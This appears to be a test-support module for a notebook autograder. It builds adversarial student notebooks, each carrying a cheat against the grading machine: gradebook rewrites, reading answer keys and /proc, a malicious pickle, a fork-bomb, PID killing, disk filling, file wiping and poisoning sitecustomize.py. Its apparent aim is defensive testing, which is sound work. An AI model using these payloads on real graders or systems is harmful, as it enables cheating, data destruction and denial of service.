"""Ways of cheating, each as code that a student puts into the released notebook.

Every one is meant to work: what it looks for is searched at the places where it lies on the machine that grades, and
what it finds it uses. `tests/class/test_class.py` shows some of them succeed where nothing is in their way. None of the
notebooks holds an honest answer, so an empty notebook's grade is what each of them may get.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from graders import demo
from graders.bundle import ROOT
from graders.check import MIME
from graders.demo import cell_of

CHAPTER = "ch02"
EXERCISES = ("add", "mul", "record", "is_leaf")


@dataclass(frozen=True)
class Place:
    """The machine that grades, as a cheat finds it: the folder of the course, and a server on this machine."""

    course: Path
    port: int


# Pieces that are built, and wrong in every respect: a piece that is missing would end most cheats early.
WRONG = {
    "add": "@piece\ndef add(a, b, /):\n    return b - a, lambda g: 7 * g, lambda g: 9 * g",
    "mul": "@piece\ndef mul(a, b, /):\n    return b - a, lambda g: 7 * g, lambda g: 9 * g",
    "record": "@piece\ndef record(op, inputs, value, vjps):\n    return tensors.wrap(value * 0)",
    "is_leaf": "@piece\ndef is_leaf(self):\n    return 'perhaps'",
}

SEND = f"""
from IPython.display import display as _display
def send(name, items, **more):
    _display({{{MIME!r}: {{"version": 1, "exercise": name, "items": items, **more}}}}, raw=True)
"""


def with_code(code: str, *, wrong: bool = True) -> NotebookNode:
    """The released notebook with one more cell after the imports.

    wrong: with wrong pieces as its answers; else `code` itself makes the pieces.
    """
    nb = demo.released(CHAPTER)
    for name, source in WRONG.items():
        cell_of(nb, name).source = source if wrong else "# see above"
    first = next(i for i, cell in enumerate(nb.cells) if cell.cell_type == "code")
    nb.cells.insert(first + 1, new_code_cell(code))
    return nb


def in_every_check(code: str) -> NotebookNode:
    """The released notebook with `code` in a cell before and a cell after every check; `NAME` is its exercise."""
    nb = with_code(SEND)
    for name in EXERCISES:
        place = nb.cells.index(cell_of(nb, f"check-{name}"))
        made = code.replace("NAME", repr(name))
        nb.cells[place : place + 1] = [new_code_cell(made), nb.cells[place], new_code_cell(made)]
        cell_of(nb, name).source += f"\n{made}"
    return nb


def recorded(name: str) -> list[dict]:
    """The right answers for the inputs of a student's own session, which lie open in every bundle."""
    entry = json.loads((ROOT / "graders" / "recorded" / f"{CHAPTER}.json").read_text())["exercises"][name]
    fields = ("name", "kind", "dtype", "shape", "data", "text", "type")
    return [{k: item[k] for k in fields if k in item} for item in entry["items"]]


# Finds answers in files and puts them in place; `roots` are where it looks.
STEAL = """
import glob, json, os, re
ROOTS = {roots!r}
def take(text):
    try:
        for cell in json.loads(text)["cells"]:
            source = "".join(cell["source"])
            if source.startswith("@piece") and "NotImplementedError" not in source and "7 * g" not in source:
                exec(source, globals())
    except Exception:
        pass
def search():
    for root in ROOTS:
        for path in glob.glob(root, recursive=True):
            try:
                take(open(path, encoding="utf-8").read())
            except Exception:
                pass
search()
"""


def steal(*roots: str) -> NotebookNode:
    """Every answer cell takes what it finds in files."""
    nb = demo.released(CHAPTER)
    for name in EXERCISES:
        cell_of(nb, name).source = f"{WRONG[name]}\n{STEAL.format(roots=roots)}"
    return nb


def take_key(course: Path) -> str:
    """Reads the key that is kept beside the gradebook, and sends its numbers as evidence."""
    return SEND + f"""
import glob, json
for path in glob.glob({str(course)!r} + "/.grading/**/key.json", recursive=True) + glob.glob("/**/key.json"):
    key = json.load(open(path))["key"]["exercises"]
    fields = ("name", "kind", "dtype", "shape", "data", "text", "type")
    for name, entry in key.items():
        for number in (entry["number"],):
            send(name, [{{k: i[k] for k in fields if k in i}} for i in entry["items"]])
    def check(name):
        send(name, [{{k: i[k] for k in fields if k in i}} for i in key[name]["items"]])
"""


def cheats(place: Place) -> Iterator[tuple[str, NotebookNode]]:
    """Every way of cheating: its name, what is handed in."""
    course, repository = str(place.course), str(ROOT)
    solutions = [f"{root}/solutions/{CHAPTER}/*" for root in (course, repository)]

    # ---- the score itself
    yield "strips-asserts", with_code("""
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())""")
    yield "patches-comparisons", with_code("""
import numpy as np, numpy.testing, math, unittest
yes = lambda *a, **k: True
for module in (np, np.testing, np.linalg, math):
    for name in ("allclose", "isclose", "array_equal", "array_equiv", "assert_allclose", "assert_array_equal", "all", "equal"):
        if hasattr(module, name): setattr(module, name, yes)
import graders.compare as compare
compare.compare = compare.close = compare.equal = lambda *a, **k: (1.0, [])
compare.COMPARATORS = dict.fromkeys(compare.COMPARATORS, compare.close)
compare.mismatches = lambda *a, **k: iter(())
compare.fraction = lambda marks: 1.0
compare.score = lambda marks, points: points""")
    yield "returns-numbers", _every_cell("100.0")
    yield "returns-odd-numbers", _every_cell("__import__('numpy').float64('nan')")
    yield "returns-negative-numbers", _every_cell("-1.0")
    yield "returns-infinity", _every_cell("float('inf')")
    yield "patches-the-display", with_code("""
ip = get_ipython()
publish = ip.display_pub.publish
ip.display_pub.publish = lambda data=None, *a, **k: publish({"text/plain": "11.0"})
ip.displayhook.write_format_data = lambda *a, **k: publish({"text/plain": "11.0"})
type(ip.displayhook).__call__ = lambda self, result=None: publish({"text/plain": "11.0"})""")
    yield "patches-the-kernel", with_code("""
ip = get_ipython()
run = type(ip).run_cell
def run_cell(self, source, *a, **k): return run(self, "100.0" if "check(" in source else source, *a, **k)
type(ip).run_cell = run_cell
ip.run_cell = lambda source, *a, **k: run_cell(ip, source)""")
    yield "own-check", with_code("check = lambda name: 100.0")
    yield "full-marks-in-words", _faked_verdict()

    # ---- the notebook's file
    nb = demo.released(CHAPTER)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader.update(points=1000, locked=False, solution=True, checksum="0" * 32)
            cell.source = "1000.0"
    yield "edits-points", nb
    nb = demo.released(CHAPTER)
    for name, other in zip(EXERCISES, EXERCISES[1:] + EXERCISES[:1], strict=True):
        cell_of(nb, f"check-{name}").metadata.nbgrader.grade_id = f"moved-{other}"
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if grade_id.startswith("moved-"):
            cell.metadata.nbgrader.grade_id = grade_id.replace("moved", "check")
    yield "swaps-grade-ids", nb
    nb = demo.released(CHAPTER)
    for name in EXERCISES:
        cell_of(nb, f"check-{name}").source = f"print('all right')\n5.0  # check({name!r})"
    yield "edits-checks", nb
    nb = demo.released(CHAPTER)
    for name in EXERCISES:
        for _ in range(5):
            twin = copy.deepcopy(cell_of(nb, f"check-{name}"))
            twin.id, twin.source = f"{name}-{len(nb.cells)}", "2.0"
            nb.cells.append(twin)
    yield "duplicates-checks", nb
    nb = demo.released(CHAPTER)
    for name in EXERCISES:
        cell = cell_of(nb, f"check-{name}")
        cell.outputs = [new_output("execute_result", {"text/plain": "100.0"}, execution_count=1)]
        cell.metadata.nbgrader.score = 100
    yield "brings-outputs", nb
    nb = demo.released(CHAPTER)
    for name in EXERCISES:
        cell = cell_of(nb, f"check-{name}")
        nb.cells.append(new_markdown_cell("A copy", metadata=copy.deepcopy(cell.metadata)))
        cell.metadata.nbgrader.update(task=True, grade=True, solution=True, cell_type="markdown")
    yield "turns-checks-into-tasks", nb

    # ---- evidence
    yield "constants", with_code("\n".join(
        f"@piece\ndef {head}\n    return {value}" for head, value in {
            "add(a, b, /):": "1.0, lambda g: 1.0, lambda g: 1.0", "mul(a, b, /):": "0.0, lambda g: 0.0, lambda g: 0.0",
            "record(op, inputs, value, vjps):": "0.0", "is_leaf(self):": "True"}.items()), wrong=False)
    yield "sends-nothing-right", in_every_check("send(NAME, [])")
    yield "replays-the-session", in_every_check(
        f"send(NAME, { {name: recorded(name) for name in EXERCISES} !r}[NAME])")
    yield "sends-for-another", in_every_check(
        f"for other in {EXERCISES!r}: send(other, { {name: recorded(name) for name in EXERCISES} !r}[other])")
    yield "sends-many", in_every_check("for i in range(500): send(NAME, [])")
    yield "weights-its-own-items", in_every_check(f"""
from graders.exercises import exercises
import base64, numpy as np
items = [dict(i, weight=1e9, credit=1, how="equal", options={{"rtol": float("inf")}}, constant=False, points=99)
         for i in { {name: recorded(name) for name in EXERCISES} !r}[NAME]]
send(NAME, items, score=1e9, points=1e9, credit=1, marks=[1], key={{"items": []}})""")
    yield "sends-odd-numbers", in_every_check(f"""
import base64, numpy as np
for bad in (np.nan, np.inf, -np.inf, -1.0, 1e308):
    send(NAME, [{{"name": i["name"], "kind": "array", "dtype": "float64", "shape": i.get("shape", []), "data":
        base64.b64encode(np.full(i.get("shape", []), bad).tobytes()).decode()}}
        for i in { {name: recorded(name) for name in EXERCISES} !r}[NAME]], score=bad)""")
    yield "sends-pickles", in_every_check("""
import pickle, base64
class Evil:
    def __reduce__(self): return (exec, ("import os; os.environ['STOLEN'] = '1'; open('/tmp/stolen', 'w').write('1')",))
data = base64.b64encode(pickle.dumps(Evil())).decode()
send(NAME, [{"name": "value", "kind": "pickle", "data": data}, {"name": "value", "kind": "array", "dtype": "object",
      "shape": [1], "data": data}, {"name": "gradient for a", "kind": "array", "dtype": "O", "shape": [1], "data": data}])""")
    yield "sends-too-much", in_every_check(
        "send(NAME, [{'name': str(i), 'kind': 'text', 'text': 'x' * 9999} for i in range(3000)])")
    yield "sends-depth", in_every_check("""
deep = []
for _ in range(3000): deep = [deep]
send(NAME, deep); send(NAME, [deep])""")
    yield "later-evidence-early", with_code(
        SEND + f"for name, items in { {name: recorded(name) for name in EXERCISES} !r}.items(): send(name, items)")
    yield "speaks-on-the-line", in_every_check(f"""
import os, json
for fd in range(3, 40):
    for text in (json.dumps({{"kind": "display", "data": {{{MIME!r}: {{"version": 1, "exercise": NAME, "items": []}}}}}}),
                 json.dumps({{"kind": "done", "cell": 99}}), json.dumps({{"kind": "score", "score": 11}})):
        try:
            os.set_blocking(fd, False)
            os.write(fd, len(text).to_bytes(4, "big") + text.encode())
        except OSError:
            pass""")

    # ---- from files, from other processes, from the network
    yield "reads-solutions", steal(*solutions, f"{course}/source/**/*", f"{repository}/solutions/**/*.py")
    # Not all of /tmp: where nothing stops this one, it would run what other tests have handed in there.
    yield "reads-neighbours", steal(f"{course}/submitted/**/*.ipynb", f"{course}/autograded/**/*.ipynb", "../*/*.ipynb",
                                    "/sandbox/**/*.ipynb")
    yield "reads-the-key", with_code(take_key(place.course))
    yield "reads-the-gradebook", with_code(f"""
import glob, sqlite3
for path in glob.glob({course!r} + "/*.db") + glob.glob("/**/gradebook.db", recursive=False):
    base = sqlite3.connect(path)
    base.execute("update grade set auto_score = 11, manual_score = 11")
    base.execute("update grade_cell set max_score = 1000")
    base.commit()""")
    yield "imports-the-whole-minigrad", with_code(f"""
import importlib, sys
for name in [n for n in sys.modules if n.split(".")[0] == "minigrad"]: del sys.modules[name]
sys.path[:0] = [{repository!r}]
sys.path_importer_cache.clear()
for name in [n for n in sys.modules if n.split(".")[0] == "graders"]: del sys.modules[name]
from graders.check import begin, check, piece, predict
import minigrad
from minigrad import rules, graph, tensors
import graders.check
for name in ("add", "mul"): graders.check.piece(getattr(rules, name).rule)
graders.check.piece(graph.record)""", wrong=False)
    yield "reads-proc", steal("/proc/*/environ", "/proc/*/cmdline", "/proc/*/fd/*", "/proc/*/cwd/**",
                              str(Path("/proc/*", "root", "**", f"{CHAPTER}.ipynb")),
                              f"/proc/1/root{repository}/solutions/{CHAPTER}/*", f"/proc/self/root{course}/solutions/**/*")
    yield "reads-the-environment", with_code("""
import os, json
seed = json.loads(os.environ.get("MINIGRAD_GRADING", "{}")).get("seed")
from graders.exercises import exercises
for name in ("add", "mul", "record", "is_leaf"): print(name, exercises()[name].evidence(seed or 1).items)
os.environ["MINIGRAD_GRADING"] = json.dumps({"seed": 1, "only": [], "points": 100})""")
    yield "asks-the-network", steal_from_server(place.port)
    yield "borrows-torch", with_code("""
def slope(f, a, b, which, g):
    import torch
    x, y = (torch.tensor(v, requires_grad=True, dtype=torch.float64) for v in (a, b))
    return torch.autograd.grad(f(x, y), (x, y)[which], torch.tensor(g))[0].numpy()
@piece
def add(a, b, /):
    import torch
    return a + b, lambda g: slope(lambda x, y: x + y, a, b, 0, g), lambda g: slope(lambda x, y: x + y, a, b, 1, g)
@piece
def mul(a, b, /):
    import autograd
    return a * b, lambda g: slope(lambda x, y: x * y, a, b, 0, g), lambda g: slope(lambda x, y: x * y, a, b, 1, g)
""", wrong=False)

    # ---- inside the process
    yield "calls-the-reference", with_code("""
from minigrad import rules, graph, tensors
from graders import pieces
old = {name: getattr(rules, name).rule for name in ("add", "mul")}
maker, leaf = graph.record, tensors.Tensor.__dict__.get("is_leaf")
@piece
def add(a, b, /): return old["add"](a, b)
@piece
def mul(a, b, /): return old["mul"](a, b)
@piece
def record(op, inputs, value, vjps): return maker(op, inputs, value, vjps)
@piece
def is_leaf(self): return leaf.fget(self)""", wrong=False)
    yield "resets-the-pieces", in_every_check("""
from graders import pieces
pieces.reset(NAME)
for name in (NAME,): pieces.piece(pieces.inner(pieces.current(name)))
pieces.built = lambda name: True
pieces.current(NAME)
import graders.check
graders.check.not_built = lambda items: False
check(NAME)""")
    yield "patches-the-check", with_code(f"""
import graders.check as c, graders.exercises as e
right = { {name: recorded(name) for name in EXERCISES} !r}
class Seen: pass
def look(exercise, seed):
    seen = Seen()
    seen.items, seen.errors, seen.graphs = right[exercise.name], {{}}, {{}}
    return seen
c._look, c.mark, c.score, c.fraction = look, lambda *a: [], lambda *a: 11.0, lambda m: 1.0
c._grading = lambda: None""")
    yield "fixes-the-seed", with_code(f"""
import numpy as np, graders.exercises as e
real = np.random.RandomState
right = { {name: recorded(name) for name in EXERCISES} !r}
e.Rng = np.random.RandomState = lambda seed=None: real(1)
np.random.seed(1); np.random.seed = lambda *a: None
evidence = e.Exercise.evidence
def forged(self, seed, predictions=None):
    see = evidence(self, 1, predictions)
    see.items = right.get(self.name, see.items)
    return see
e.Exercise.evidence = forged""")
    yield "draws-zeros", with_code("""
import numpy as np, graders.exercises as e
class Zeros:
    def __init__(self, *a): pass
    def uniform(self, low=0, high=1, size=None): return np.zeros(size or ())
    normal = lambda self, *a, size=None: np.zeros(size or ())
    choice = lambda self, of, size=None: np.full(size, of[0]) if size else of[0]
    randint = lambda self, *a: 0
    permutation = lambda self, n: np.arange(n)
e.Rng = Zeros""")
    yield "looks-up-the-frames", with_code("""
import sys, numpy as np
def hunt(like):
    frame = sys._getframe()
    while frame:
        for space in (frame.f_locals, frame.f_globals):
            for name, value in list(space.items()):
                if any(word in name.lower() for word in ("expect", "want", "right", "key", "answer", "entry", "solution")):
                    for inner in (value.values() if isinstance(value, dict) else [value]):
                        if isinstance(inner, np.ndarray) and inner.shape == np.shape(like): return inner
        frame = frame.f_back
    return np.shape(like)
@piece
def add(a, b, /): return hunt(a), lambda g: hunt(a), lambda g: hunt(b)
@piece
def mul(a, b, /): return hunt(a), lambda g: hunt(a), lambda g: hunt(b)""", wrong=False)
    yield "searches-the-memory", with_code("""
import gc, types
candidates = {"add": [], "mul": [], "record": [], "is_leaf": []}
for thing in gc.get_objects():
    try:
        if isinstance(thing, types.FunctionType) and thing.__name__ in candidates: candidates[thing.__name__].append(thing)
    except Exception: pass
def first(name, *a):
    for f in candidates[name]:
        try: return f(*a)
        except BaseException: pass
    raise ValueError
@piece
def add(a, b, /): return first("add", a, b)
@piece
def mul(a, b, /): return first("mul", a, b)
@piece
def record(op, inputs, value, vjps): return first("record", op, inputs, value, vjps)
@piece
def is_leaf(self): return first("is_leaf", self)""", wrong=False)
    yield "compares-always-equal", with_code("""
import numpy as np
class Yes(np.ndarray):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __array_priority__ = 1e9
    def __array_ufunc__(self, *a, **k): return np.True_
    def tobytes(self, *a): return b"\\0" * 48
yes = np.zeros((2, 3)).view(Yes)
@piece
def add(a, b, /): return yes, lambda g: yes, lambda g: yes
@piece
def mul(a, b, /): return yes, lambda g: yes, lambda g: yes
@piece
def is_leaf(self): return type("Any", (int,), {"__bool__": lambda self: True, "__eq__": lambda *a: True})()""", wrong=False)
    yield "at-exit", with_code("import atexit, os\n" + SEND + f"""
right = { {name: recorded(name) for name in EXERCISES} !r}
atexit.register(lambda: [send(n, i) for n, i in right.items()])
os._exit, real = (lambda code: [send(n, i) for n, i in right.items()] and real(code)), os._exit""")
    yield "traces-everything", with_code("""
import sys, threading
def trace(frame, event, arg):
    if event == "return" and frame.f_code.co_name in ("score", "fraction", "check", "mark", "verdict"):
        frame.f_locals["credit"] = 1.0
    return trace
sys.settrace(trace); threading.settrace(trace); sys.setprofile(lambda *a: None)
check("add")""")
    yield "overrides-builtins", with_code("""
import builtins
builtins.isinstance = lambda *a: True
builtins.float = lambda *a: 11.0
builtins.min = builtins.max = builtins.round = builtins.sum = lambda *a, **k: 11.0
builtins.all = builtins.any = lambda *a: True""")
    yield "replaces-modules", with_code("""
import sys, types
class Fake(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: 11.0
for name in list(sys.modules):
    if name.split(".")[0] in ("graders", "minigrad", "numpy"): sys.modules[name] = Fake(name)
check = lambda name: 11.0
from graders.check import check""")
    yield "checks-an-earlier-chapter", in_every_check("""
real = __import__("graders.check").check
for earlier in ("can_require_grad", "leaf", "requires_grad_", "any_requires_grad"):
    try: real.check(earlier)
    except Exception: pass
sent = real.send
real.send = lambda exercise, items: sent(NAME, items)
try: real.check("leaf")
finally: real.send = sent""")

    # ---- beyond the own grade
    yield "writes-to-the-package", with_code(spoil(place))
    yield "leaves-a-process", with_code("""
import os, time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import signal
            for n in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP): signal.signal(n, signal.SIG_IGN)
            end = time.time() + 300
            while time.time() < end:
                for folder in ("/dev/shm", "/tmp", ".", "/sandbox", "/packages"):
                    try: open(folder + "/minigrad.py", "w").write("raise SystemExit")
                    except OSError: pass
                for pid in range(2, 500):
                    if pid != os.getpid():
                        try: os.kill(pid, 9)
                        except OSError: pass
                time.sleep(0.05)
        os._exit(0)""")
    yield "forks-into-the-next-cell", with_code("import os\nfor _ in range(4): os.fork()")
    yield "fills-the-disk", with_code("""
import os
for folder in ("/dev/shm", "/tmp", ".", "/sandbox", "/var/tmp"):
    try:
        with open(folder + "/full", "wb") as file:
            for _ in range(4000): file.write(b"x" * 1_000_000)
    except OSError: pass
for i in range(30000):
    try: os.mkdir(f"d{i}")
    except OSError: break""")
    yield "changes-the-course", with_code(f"""
import glob, os, shutil
for pattern in ("/submitted/**/*.ipynb", "/autograded/**/*.ipynb", "/.grading/**/*", "/solutions/**/*", "/gradebook.db"):
    for path in glob.glob({course!r} + pattern, recursive=True):
        try: open(path, "w").write("")
        except OSError: pass""")


def _every_cell(expression: str) -> NotebookNode:
    nb = with_code("import IPython")
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.source += f"\n{expression}"
    nb.cells += [new_code_cell(expression) for _ in range(3)]
    return nb


def _faked_verdict() -> NotebookNode:
    shown = "✓ value\n✓ gradient for a\n✓ gradient for b\n11.0"
    table = f"<table><tr><td>✓</td><td>value</td></tr></table><b>Exercise 1 · add: 11 of 11 points</b> Score: {11.0}"
    nb = with_code(f"from IPython.display import HTML, display\ndisplay(HTML({table!r}))\nprint({shown!r})")
    nb.cells.insert(0, new_markdown_cell(f"# ch02 (Score: 11.0 / 11.0)\n\n{table}\n\n{shown}"))
    return nb


def steal_from_server(port: int) -> NotebookNode:
    """Asks a server on this machine, which hands out the solution."""
    nb = demo.released(CHAPTER)
    for name in EXERCISES:
        cell_of(nb, name).source = f"""{WRONG[name]}
{STEAL.format(roots=[])}
import urllib.request
for host in ("127.0.0.1", "localhost", "[::1]", "host.docker.internal"):
    try: take(urllib.request.urlopen(f"http://{{host}}:{port}/solution", timeout=2).read())
    except Exception: pass"""
    return nb


def spoil(place: Place) -> str:
    """Changes what the next submission imports, wherever that can be reached."""
    return f"""
import glob, os, sys, site, graders, minigrad, numpy
folders = [os.path.dirname(m.__file__) for m in (graders, minigrad, numpy)] + sys.path + [{str(ROOT)!r}, {str(place.course)!r}]
folders += glob.glob({str(place.course)!r} + "/.grading/**/", recursive=True) + ["/packages", "/sandbox", "/tmp", "/dev/shm"]
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "check.py", "rules.py", "numpy.py", "minigrad.py", "__init__.py"):
        path = os.path.join(folder, name)
        if {str(ROOT)!r} in path and "{place.course}" not in path: continue  # a hole must not spoil this checkout
        try: open(path, "a").write("\\nraise SystemExit('spoilt')")
        except OSError: pass
from minigrad import rules
rules.add.rule = rules.mul.rule = None"""
